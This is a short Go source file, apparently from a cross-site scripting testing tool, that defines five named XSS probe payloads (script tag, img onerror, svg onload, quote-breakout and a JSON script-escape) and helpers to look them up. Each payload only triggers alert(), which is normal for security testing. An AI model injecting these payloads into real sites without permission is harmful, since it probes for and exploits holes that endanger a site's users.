package main

import "strings"

type payloadKind int

const (
	payloadBasic payloadKind = iota
	payloadImg
	payloadSVG
	payloadScript
	payloadJSON
)

var payloadKinds = []payloadKind{payloadBasic, payloadImg, payloadSVG, payloadScript, payloadJSON}

func (k payloadKind) String() string {
	switch k {
	case payloadImg:
		return "img"
	case payloadSVG:
		return "svg"
	case payloadScript:
		return "script"
	case payloadJSON:
		return "json"
	default:
		return "basic"
	}
}

// payload returns the literal XSS string for the kind
func (k payloadKind) payload() string {
	switch k {
	case payloadImg:
		return `<img src=x onerror=alert("XSS")>`
	case payloadSVG:
		return `<svg onload=alert("XSS")>`
	case payloadScript:
		return `";alert("XSS");//`
	case payloadJSON:
		return `{"test":"</script><script>alert(1)</script>"}`
	default:
		return `<script>alert("XSS")</script>`
	}
}

// parsePayloadKind resolves a payload name, unknown names fall back to
// the basic payload
func parsePayloadKind(name string) payloadKind {
	name = strings.ToLower(strings.TrimSpace(name))
	for _, k := range payloadKinds {
		if k.String() == name {
			return k
		}
	}

	return payloadBasic
}

type namedPayload struct {
	name  string
	value string
}

// builtinPayloads returns every built-in payload in declaration order
func builtinPayloads() []namedPayload {
	payloads := make([]namedPayload, 0, len(payloadKinds))
	for _, k := range payloadKinds {
		payloads = append(payloads, namedPayload{name: k.String(), value: k.payload()})
	}

	return payloads
}
